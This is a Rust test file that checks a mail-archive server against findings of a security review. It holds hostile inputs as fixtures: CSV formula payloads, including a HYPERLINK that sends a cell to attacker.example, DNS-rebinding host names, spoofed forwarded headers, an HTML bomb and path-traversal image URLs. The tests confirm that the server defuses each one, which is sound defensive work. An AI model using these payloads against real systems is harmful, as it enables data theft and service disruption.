//! The server under attack, one test per finding of the black-box review
//! (issue 13): DNS rebinding and forwarded headers, stalled exports, HTML
//! that is costly to sanitize, bcrypt as an amplifier, CSV formulas,
//! same-origin URLs in mail HTML, and threads too long to show at once.

use std::io::{Read, Write};
use std::net::TcpStream;
use std::path::Path;
use std::sync::{Arc, OnceLock};
use std::time::{Duration, Instant};

use actix_web::http::StatusCode;
use actix_web::test as actix_test;
use base64::Engine;
use fouille_search::ArchiveSearcher;
use fouille_server::app::create_app;
use fouille_server::auth::{Check, Credentials};
use fouille_server::host::{AllowedHosts, Origin};
use fouille_server::state::AppState;
use serde_json::Value;

use crate::api::build_archive;
use crate::support::{free_port, http_get, start_server_with};

/// Subjects a spreadsheet would run as formulas.
const FORMULAS: [&str; 6] = [
    "=1+1",
    "=HYPERLINK(\"http://attacker.example/?\"&A1,\"open\")",
    "+2*3",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
];

/// Messages in the long thread.
const THREAD_LENGTH: usize = 250;

fn write_mail(dir: &Path, name: &str, headers: &str, body: &str) {
    let mail = format!(
        "From: Source <source@example.org>\r\nTo: desk@example.net\r\nDate: Mon, 1 May 2017 10:00:00 +0200\r\nMIME-Version: 1.0\r\n{headers}\r\n{body}\r\n"
    );
    std::fs::write(dir.join(name), mail).unwrap();
}

/// An archive of hostile mails written here: formula subjects, an HTML bomb,
/// HTML with inline images and same-origin URLs, a long thread.
fn searcher() -> ArchiveSearcher {
    static ARCHIVE: OnceLock<(tempfile::TempDir, ArchiveSearcher)> = OnceLock::new();
    ARCHIVE
        .get_or_init(|| {
            let dir = tempfile::tempdir().unwrap();
            let mails = dir.path().join("mails");
            std::fs::create_dir(&mails).unwrap();
            for (n, subject) in FORMULAS.iter().enumerate() {
                let encoded = base64::engine::general_purpose::STANDARD.encode(subject);
                write_mail(
                    &mails,
                    &format!("formula-{n}.eml"),
                    &format!(
                        "Subject: =?UTF-8?B?{encoded}?=\r\nMessage-ID: <formula-{n}@example.org>\r\nContent-Type: text/plain\r\n"
                    ),
                    &format!("tableur numéro {n}"),
                );
            }
            std::fs::write(
                mails.join("formula-from.eml"),
                "From: <=2+2@example.org>\r\nTo: <@sum@example.org>\r\nSubject: tableur adresse\r\nMessage-ID: <formula-from@example.org>\r\nDate: Mon, 1 May 2017 10:00:00 +0200\r\n\r\ntableur adresse\r\n",
            )
            .unwrap();
            write_mail(
                &mails,
                "bomb.eml",
                "Subject: table bomb\r\nMessage-ID: <bomb@example.org>\r\nContent-Type: text/html\r\n",
                &"<table>x</table>".repeat(200_000),
            );
            write_mail(
                &mails,
                "inline.eml",
                "Subject: inline image\r\nMessage-ID: <inline@example.org>\r\nContent-Type: multipart/related; boundary=\"b\"\r\n",
                concat!(
                    "--b\r\nContent-Type: text/html\r\n\r\n",
                    "<p>imagerie</p><img src=\"cid:logo@example.org\">",
                    "<img src=\"attachments/0/../../../export?format=mbox&amp;q=:\">",
                    "<img src=\"/api/messages/0/attachments/0/../../../stats\">",
                    "<img src=\"attachments/0\"><a href=\"../raw\">lien</a>\r\n",
                    "--b\r\nContent-Type: image/png\r\nContent-ID: <logo@example.org>\r\nContent-Transfer-Encoding: base64\r\n\r\n",
                    "iVBORw0KGgo=\r\n--b--"
                ),
            );
            for n in 0..THREAD_LENGTH {
                let parent = if n == 0 {
                    String::new()
                } else {
                    format!(
                        "References: <thread-0@example.org> <thread-{}@example.org>\r\nIn-Reply-To: <thread-{}@example.org>\r\n",
                        n - 1,
                        n - 1
                    )
                };
                let mail = format!(
                    "From: Source <source@example.org>\r\nTo: desk@example.net\r\nDate: Mon, 1 May 2017 {:02}:{:02}:00 +0000\r\nSubject: Re: fil long\r\nMessage-ID: <thread-{n}@example.org>\r\n{parent}\r\nmessage {n} du fil\r\n",
                    n / 60,
                    n % 60
                );
                std::fs::write(mails.join(format!("thread-{n}.eml")), mail).unwrap();
            }
            let searcher = build_archive(&dir.path().join("archive"), &[mails]);
            (dir, searcher)
        })
        .1
        .clone()
}

async fn call(state: AppState, request: actix_test::TestRequest) -> (StatusCode, Vec<u8>) {
    let app = actix_test::init_service(create_app(state, false)).await;
    let response = actix_test::call_service(&app, request.to_request()).await;
    let status = response.status();
    (status, actix_test::read_body(response).await.to_vec())
}

fn first_id(query: &str) -> String {
    let request = fouille_search::SearchRequest {
        query: query.to_string(),
        limit: 1,
        ..Default::default()
    };
    searcher().search(&request).unwrap().hits[0].id.clone()
}

#[actix_web::test]
async fn rebound_host_names_get_421_before_anything_runs() {
    let state = || AppState {
        hosts: Arc::new(AllowedHosts::new(
            "127.0.0.1:8080".parse().unwrap(),
            &["fouille.newsroom.example".to_string()],
        )),
        ..AppState::new(searcher())
    };
    for host in [
        "rebind.attacker.example",
        "rebind.attacker.example:8080",
        "localhost.attacker.example",
    ] {
        for path in ["/api/stats", "/api/export?format=csv&q=tableur", "/"] {
            let request = actix_test::TestRequest::get()
                .uri(path)
                .insert_header(("Host", host));
            let (status, body) = call(state(), request).await;
            assert_eq!(status, StatusCode::MISDIRECTED_REQUEST, "{host} {path}");
            let body: Value = serde_json::from_slice(&body).unwrap();
            assert_eq!(body["error"]["code"], "misdirected");
        }
    }
    for host in [
        "localhost:8080",
        "127.0.0.1:8080",
        "[::1]:8080",
        "fouille.newsroom.example",
    ] {
        let request = actix_test::TestRequest::get()
            .uri("/api/stats")
            .insert_header(("Host", host));
        assert_eq!(call(state(), request).await.0, StatusCode::OK, "{host}");
    }
}

/// The permalinks of a CSV export, for these request headers.
async fn permalinks(origin: Origin, headers: &[(&str, &str)]) -> Vec<String> {
    let mut request = actix_test::TestRequest::get().uri("/api/export?format=csv&q=tableur");
    for header in headers {
        request = request.insert_header(*header);
    }
    let state = AppState {
        origin,
        hosts: Arc::new(AllowedHosts::new(
            "127.0.0.1:8080".parse().unwrap(),
            &["fouille.example.org".to_string()],
        )),
        ..AppState::new(searcher())
    };
    let (status, body) = call(state, request).await;
    assert_eq!(status, StatusCode::OK);
    let mut reader = csv::Reader::from_reader(body.as_slice());
    let rows: Vec<String> = reader
        .records()
        .map(|record| record.unwrap()[5].to_string())
        .collect();
    assert_eq!(rows.len(), FORMULAS.len() + 1);
    rows
}

#[actix_web::test]
async fn forwarded_headers_reach_permalinks_only_behind_a_proxy() {
    let hostile = [
        ("Host", "localhost:8080"),
        (
            "X-Forwarded-Host",
            "javascript://=HYPERLINK(\"http://a.example\")",
        ),
        ("X-Forwarded-Proto", "javascript"),
        ("Forwarded", "host=evil.example;proto=https"),
    ];
    for link in permalinks(Origin::Direct, &hostile).await {
        assert!(
            link.starts_with("http://localhost:8080/messages/"),
            "{link}"
        );
    }
    // Behind a proxy the forwarded host counts, but only if it is a host.
    let proxied = [
        ("Host", "127.0.0.1:8080"),
        ("X-Forwarded-Host", "fouille.example.org"),
        ("X-Forwarded-Proto", "https"),
    ];
    for link in permalinks(Origin::BehindProxy, &proxied).await {
        assert!(
            link.starts_with("https://fouille.example.org/messages/"),
            "{link}"
        );
    }
    for link in permalinks(Origin::BehindProxy, &hostile[..3]).await {
        assert!(
            link.starts_with("http://localhost:8080/messages/"),
            "{link}"
        );
    }
    let public = Origin::Public("https://leaks.example.org/fouille".into());
    for link in permalinks(public, &hostile).await {
        assert!(
            link.starts_with("https://leaks.example.org/fouille/messages/"),
            "{link}"
        );
    }
}

#[actix_web::test]
async fn csv_cells_that_would_be_formulas_start_with_a_quote() {
    let request = actix_test::TestRequest::get().uri("/api/export?format=csv&q=tableur");
    let (status, body) = call(AppState::new(searcher()), request).await;
    assert_eq!(status, StatusCode::OK);
    let mut reader = csv::Reader::from_reader(body.as_slice());
    let records: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    let from_cell = records
        .iter()
        .find(|record| &record[4] == "tableur adresse");
    let from_cell = from_cell.expect("the mail with formula addresses");
    assert_eq!(&from_cell[2], "'=2+2@example.org");
    assert_eq!(&from_cell[3], "'@sum@example.org");
    let mut subjects: Vec<String> = records
        .iter()
        .map(|record| record[4].to_string())
        .filter(|subject| subject != "tableur adresse")
        .collect();
    subjects.sort();
    // A leading tab is kept, after the quote.
    let mut expected = vec![
        "'\t=1+1",
        "'+2*3",
        "'-2+3",
        "'=1+1",
        "'=HYPERLINK(\"http://attacker.example/?\"&A1,\"open\")",
        "'@SUM(A1:A9)",
    ];
    expected.sort();
    assert_eq!(subjects, expected);
}

#[actix_web::test]
async fn costly_html_is_refused_at_index_time_and_views_parse_nothing() {
    let bomb = first_id("bomb");
    let request = actix_test::TestRequest::get().uri(&format!("/api/messages/{bomb}"));
    let (status, body) = call(AppState::new(searcher()), request).await;
    assert_eq!(status, StatusCode::OK);
    let view: Value = serde_json::from_slice(&body).unwrap();
    assert_eq!(view["html"], Value::Null);
    assert_eq!(
        view["html_omitted"],
        "html has too many elements to display"
    );
    let request = actix_test::TestRequest::get().uri(&format!("/api/messages/{bomb}/html"));
    assert_eq!(
        call(AppState::new(searcher()), request).await.0,
        StatusCode::NOT_FOUND
    );
}

#[actix_web::test]
async fn only_the_urls_of_inline_images_survive_in_mail_html() {
    let id = first_id("imagerie");
    let request = actix_test::TestRequest::get().uri(&format!("/api/messages/{id}"));
    let (_, body) = call(AppState::new(searcher()), request).await;
    let view: Value = serde_json::from_slice(&body).unwrap();
    let html = view["html"].as_str().unwrap();
    assert!(html.contains("imagerie"), "{html}");
    assert_eq!(html.matches("src=").count(), 1, "{html}");
    assert!(html.contains(r#"<img src="attachments/0">"#), "{html}");
    for banned in ["export", "stats", "..", "/api/", "raw", "cid:"] {
        assert!(!html.contains(banned), "{banned} in {html}");
    }
    // The page resolves the relative URL to the message's own attachment.
    let request = actix_test::TestRequest::get().uri(&format!("/api/messages/{id}/html"));
    let (status, page) = call(AppState::new(searcher()), request).await;
    assert_eq!(status, StatusCode::OK);
    assert!(
        String::from_utf8(page)
            .unwrap()
            .contains(r#"<img src="attachments/0">"#)
    );
}

#[actix_web::test]
async fn long_threads_come_a_page_at_a_time() {
    let id = first_id("fil");
    let request = actix_test::TestRequest::get().uri(&format!("/api/messages/{id}"));
    let (_, body) = call(AppState::new(searcher()), request).await;
    let thread = serde_json::from_slice::<Value>(&body).unwrap()["thread_id"]
        .as_str()
        .unwrap()
        .to_string();
    let page = |query: String| {
        let thread = thread.clone();
        async move {
            let request =
                actix_test::TestRequest::get().uri(&format!("/api/threads/{thread}{query}"));
            let (status, body) = call(AppState::new(searcher()), request).await;
            (status, serde_json::from_slice::<Value>(&body).unwrap())
        }
    };
    let (status, first) = page(String::new()).await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(first["total"], THREAD_LENGTH);
    assert_eq!(first["page"], 1);
    assert_eq!(first["per_page"], 100);
    assert_eq!(first["messages"].as_array().unwrap().len(), 100);
    assert_eq!(first["messages"][0]["snippet"], "message 0 du fil");
    let (_, last) = page("?page=3&per_page=100".into()).await;
    let messages = last["messages"].as_array().unwrap();
    assert_eq!(messages.len(), 50);
    assert_eq!(messages[49]["snippet"], "message 249 du fil");
    for (query, reason) in [
        ("?page=0", "page must be between"),
        ("?per_page=501", "per_page must be between 1 and 500"),
        ("?page=x", "page must be a whole number"),
    ] {
        let (status, body) = page(query.into()).await;
        assert_eq!(status, StatusCode::BAD_REQUEST, "{query}");
        let message = body["error"]["message"].as_str().unwrap();
        assert!(message.contains(reason), "{query}: {message}");
    }
    // Far past the end: no memory reserved for a million pages.
    let (status, far) = page("?page=1000000&per_page=500".into()).await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(far["messages"], Value::Array(Vec::new()));
    let request = actix_test::TestRequest::get()
        .uri("/api/threads/0123456789abcdef?page=1000000&per_page=500");
    assert_eq!(
        call(AppState::new(searcher()), request).await.0,
        StatusCode::NOT_FOUND
    );
    // Past the end: an empty page, not an error; unknown parameters are
    // ignored, as everywhere in the API.
    let (status, empty) = page("?page=4&sort=newest".into()).await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(empty["messages"], Value::Array(Vec::new()));
    assert_eq!(empty["total"], THREAD_LENGTH);
}

#[actix_web::test]
async fn api_requests_sent_by_pages_of_other_sites_are_refused() {
    let id = first_id("imagerie");
    let fetch = |path: String, site: &'static str, dest: &'static str| {
        actix_test::TestRequest::get()
            .uri(&path)
            .insert_header(("Host", "127.0.0.1:8080"))
            .insert_header(("Sec-Fetch-Site", site))
            .insert_header(("Sec-Fetch-Dest", dest))
    };
    for site in ["cross-site", "same-site"] {
        for path in [
            "/api/export?format=mbox&q=tableur",
            "/api/search?q=tableur",
            "/api/stats",
        ] {
            let (status, body) =
                call(AppState::new(searcher()), fetch(path.into(), site, "image")).await;
            assert_eq!(status, StatusCode::FORBIDDEN, "{site} {path}");
            let body: Value = serde_json::from_slice(&body).unwrap();
            assert_eq!(body["error"]["code"], "cross_site");
        }
    }
    for (path, site, dest) in [
        (
            "/api/export?format=csv&q=tableur".to_string(),
            "same-origin",
            "empty",
        ),
        ("/api/stats".to_string(), "none", "document"),
        // The sandboxed message frame has an opaque origin: its inline
        // images come as cross-site.
        (
            format!("/api/messages/{id}/attachments/0"),
            "cross-site",
            "image",
        ),
        // A link from elsewhere opens the UI.
        ("/search?q=tableur".to_string(), "cross-site", "document"),
    ] {
        let (status, _) = call(AppState::new(searcher()), fetch(path.clone(), site, dest)).await;
        assert_eq!(status, StatusCode::OK, "{site} {dest} {path}");
    }
    let (status, _) = call(
        AppState::new(searcher()),
        fetch(
            format!("/api/messages/{id}/attachments/0"),
            "cross-site",
            "document",
        ),
    )
    .await;
    assert_eq!(status, StatusCode::FORBIDDEN);
}

#[test]
fn html_is_sanitized_in_the_worker_within_its_time_limit() {
    let dir = tempfile::tempdir().unwrap();
    let mails = dir.path().join("mails");
    std::fs::create_dir(&mails).unwrap();
    write_mail(
        &mails,
        "hang.eml",
        "Subject: sanitizer hang\r\nMessage-ID: <hang@example.org>\r\nContent-Type: text/html\r\n",
        "FOUILLE-TEST-HANG <p>suspendu</p>",
    );
    write_mail(
        &mails,
        "inline.eml",
        "Subject: inline\r\nMessage-ID: <inline-worker@example.org>\r\nContent-Type: multipart/related; boundary=\"b\"\r\n",
        "--b\r\nContent-Type: text/html\r\n\r\n<p>vignette</p><img src=\"cid:a@b\"><script>x()</script>\r\n--b\r\nContent-Type: image/png\r\nContent-ID: <a@b>\r\n\r\npng\r\n--b--",
    );
    let archive = dir.path().join("archive");
    let output = std::process::Command::new(env!("CARGO_BIN_EXE_fouille"))
        .args(["index", "--extract-timeout", "2", "--index"])
        .arg(&archive)
        .arg(&mails)
        .env(fouille_extract::worker::FAULTS_ENV, "1")
        .env("RUST_LOG", "debug")
        .output()
        .unwrap();
    assert!(output.status.success());
    let log = String::from_utf8_lossy(&output.stderr);
    assert!(!log.contains("html5ever"), "{log}");
    let searcher = ArchiveSearcher::new(fouille_schema::Archive::open(&archive).unwrap()).unwrap();
    let find = |word: &str| {
        let request = fouille_search::SearchRequest {
            query: word.to_string(),
            limit: 1,
            ..Default::default()
        };
        let id = searcher.search(&request).unwrap().hits[0].id.clone();
        searcher.message(&id).unwrap()
    };
    let hung = find("suspendu");
    assert_eq!(hung.html, None);
    assert_eq!(
        hung.html_omitted.as_deref(),
        Some("html not displayed: sanitizing took longer than 2 s, stopped")
    );
    let inline = find("vignette");
    assert_eq!(
        inline.html.as_deref(),
        Some(r#"<p>vignette</p><img src="attachments/0">"#)
    );
}

fn basic(pair: &str) -> String {
    format!(
        "Basic {}",
        base64::engine::general_purpose::STANDARD.encode(pair)
    )
}

#[test]
fn bcrypt_runs_only_where_a_password_could_match() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(
        dir.path().join("tokens"),
        "newsroom-script-token-0123456789\n",
    )
    .unwrap();
    let tokens = Credentials::load(None, Some(&dir.path().join("tokens"))).unwrap();
    // No users: Basic is refused without bcrypt.
    assert!(matches!(
        tokens.check(&basic("alice:anything")),
        Check::Refused
    ));
    // The dummy check costs what the dearest real hash does.
    let long = "a".repeat(fouille_server::auth::MAX_PASSWORD_BYTES);
    let dear = bcrypt::hash("x", 6).unwrap();
    let cheap = bcrypt::hash(&long, 4).unwrap();
    std::fs::write(
        dir.path().join("users"),
        format!("bob:{dear}\nalice:{cheap}\n"),
    )
    .unwrap();
    let users = Credentials::load(Some(&dir.path().join("users")), None).unwrap();
    assert_eq!(users.dummy_cost(), 6);
    assert!(users.allows(&basic(&format!("alice:{long}"))));
    // bcrypt would ignore the bytes past 72 (its terminating NUL
    // included): such a password is refused.
    assert!(matches!(
        users.check(&basic(&format!("alice:{long}xyz"))),
        Check::Refused
    ));
    assert!(!users.allows(&basic(&format!("alice:{long}xyz"))));
}

#[actix_web::test]
async fn failed_sign_ins_are_rate_limited_per_address() {
    let dir = tempfile::tempdir().unwrap();
    let hash = bcrypt::hash("correct horse", 4).unwrap();
    std::fs::write(dir.path().join("users"), format!("alice:{hash}\n")).unwrap();
    let credentials = Credentials::load(Some(&dir.path().join("users")), None).unwrap();
    let state = AppState {
        credentials: Some(Arc::new(credentials)),
        ..AppState::new(searcher())
    };
    let app = actix_test::init_service(create_app(state, false)).await;
    let call = |peer: &str, authorization: String| {
        let request = actix_test::TestRequest::get()
            .uri("/api/stats")
            .peer_addr(peer.parse().unwrap())
            .insert_header(("Authorization", authorization))
            .to_request();
        actix_test::call_service(&app, request)
    };
    // Signed in once: later requests are recognised without bcrypt.
    let signed_in = call("192.0.2.1:4000", basic("alice:correct horse")).await;
    assert_eq!(signed_in.status(), StatusCode::OK);
    let mut statuses = Vec::new();
    for n in 0..fouille_server::auth::SIGN_IN_BURST + 2 {
        let response = call("192.0.2.1:4000", basic(&format!("mallory:guess{n}"))).await;
        statuses.push(response.status().as_u16());
    }
    // The burst less the one sign-in, then refusals.
    let burst = fouille_server::auth::SIGN_IN_BURST as usize - 1;
    assert_eq!(&statuses[..burst], vec![401; burst].as_slice());
    assert_eq!(&statuses[burst..], [429, 429, 429].as_slice());
    let refused = call("192.0.2.1:4001", basic("mallory:again")).await;
    assert_eq!(refused.status(), StatusCode::TOO_MANY_REQUESTS);
    assert!(refused.headers().contains_key("retry-after"));
    // The signed-in reporter is still in; another address still guesses.
    let again = call("192.0.2.1:4000", basic("alice:correct horse")).await;
    assert_eq!(again.status(), StatusCode::OK);
    let other = call("198.51.100.7:4000", basic("mallory:guess")).await;
    assert_eq!(other.status(), StatusCode::UNAUTHORIZED);
}

/// Threads named `name` in process `pid`.
fn threads_named(pid: u32, name: &str) -> usize {
    std::fs::read_dir(format!("/proc/{pid}/task"))
        .map(|tasks| {
            tasks
                .filter_map(|task| task.ok())
                .filter(|task| {
                    std::fs::read_to_string(task.path().join("comm"))
                        .is_ok_and(|comm| comm.trim() == name)
                })
                .count()
        })
        .unwrap_or(0)
}

fn resident_kib(pid: u32) -> u64 {
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).unwrap();
    status
        .lines()
        .find_map(|line| line.strip_prefix("VmRSS:"))
        .and_then(|value| value.split_whitespace().next()?.parse().ok())
        .unwrap()
}

/// A socket that asks for an export and reads nothing, with a small
/// receive window.
fn stalled_export(port: u16) -> TcpStream {
    let socket = socket2::Socket::new(socket2::Domain::IPV4, socket2::Type::STREAM, None).unwrap();
    socket.set_recv_buffer_size(4096).unwrap();
    socket
        .connect(&std::net::SocketAddr::from(([127, 0, 0, 1], port)).into())
        .unwrap();
    let mut stream: TcpStream = socket.into();
    write!(
        stream,
        "GET /api/export?format=ndjson&q=rapport HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n"
    )
    .unwrap();
    stream
}

/// The body of a chunked response.
fn dechunk(mut chunked: &str) -> String {
    let mut body = String::new();
    while let Some((size, rest)) = chunked.split_once("\r\n") {
        let size = usize::from_str_radix(size.trim(), 16).unwrap();
        if size == 0 {
            break;
        }
        body.push_str(&rest[..size]);
        chunked = &rest[size + 2..];
    }
    body
}

#[test]
fn stalled_exports_neither_freeze_nor_bloat_the_server() {
    let dir = tempfile::tempdir().unwrap();
    let mails = dir.path().join("mails");
    std::fs::create_dir(&mails).unwrap();
    // 24 messages of half a megabyte: an export far larger than the
    // sockets' buffers.
    for n in 0..24 {
        let body: String = (0..40_000)
            .map(|w| format!("rapport{} ", (w * 7 + n) % 997))
            .collect();
        write_mail(
            &mails,
            &format!("big-{n}.eml"),
            &format!(
                "Subject: rapport {n}\r\nMessage-ID: <big-{n}@example.org>\r\nContent-Type: text/plain\r\n"
            ),
            &body,
        );
    }
    let archive = dir.path().join("archive");
    let status = std::process::Command::new(env!("CARGO_BIN_EXE_fouille"))
        .args(["index", "--index", archive.to_str().unwrap()])
        .arg(&mails)
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .status()
        .unwrap();
    assert!(status.success());
    let port = free_port();
    let server = start_server_with(
        &archive,
        port,
        &dir.path().join("server.log"),
        &["--max-exports", "3", "--export-stall-timeout", "2"],
    );
    let pid = server.0.id();
    let before = resident_kib(pid);
    let mut stalled: Vec<TcpStream> = (0..40).map(|_| stalled_export(port)).collect();
    std::thread::sleep(Duration::from_millis(1500));
    // Searches and stats still answer while the exports are stuck.
    let started = Instant::now();
    let (status, _) = http_get(port, "/api/stats").expect("stats answers");
    assert_eq!(status, 200);
    let (status, _) = http_get(port, "/api/search?q=rapport&per_page=1").expect("search answers");
    assert_eq!(status, 200);
    assert!(started.elapsed() < Duration::from_secs(5));
    // Two (the per-client cap) run; the rest were turned away at once.
    let mut codes = std::collections::BTreeMap::new();
    for stream in &mut stalled {
        stream
            .set_read_timeout(Some(Duration::from_secs(5)))
            .unwrap();
        let mut head = [0u8; 12];
        stream.read_exact(&mut head).unwrap();
        let code = String::from_utf8_lossy(&head[9..12]).to_string();
        *codes.entry(code).or_insert(0) += 1;
    }
    assert_eq!(
        codes,
        std::collections::BTreeMap::from([("200".to_string(), 2), ("503".to_string(), 38)])
    );
    // The stalled exports stop by themselves and free their slots, though
    // their clients are still connected.
    let waited = Instant::now();
    while threads_named(pid, "export") > 0 {
        assert!(
            waited.elapsed() < Duration::from_secs(20),
            "stalled exports still running"
        );
        std::thread::sleep(Duration::from_millis(200));
    }
    let grown = resident_kib(pid).saturating_sub(before);
    assert!(grown < 64 * 1024, "the server grew by {grown} KiB");
    // A client that reads gets the whole export.
    let mut reader = TcpStream::connect(("127.0.0.1", port)).unwrap();
    reader
        .set_read_timeout(Some(Duration::from_secs(30)))
        .unwrap();
    write!(
        reader,
        "GET /api/export?format=ndjson&q=rapport HTTP/1.0\r\nHost: 127.0.0.1\r\n\r\n"
    )
    .unwrap();
    let mut response = String::new();
    reader.read_to_string(&mut response).unwrap();
    let (head, body) = response.split_once("\r\n\r\n").unwrap();
    assert!(head.starts_with("HTTP/1.0 200"), "{head}");
    let body = dechunk(body);
    assert_eq!(body.lines().count(), 24);
    assert!(body.lines().all(|line| line.ends_with('}')));
    drop(stalled);
}
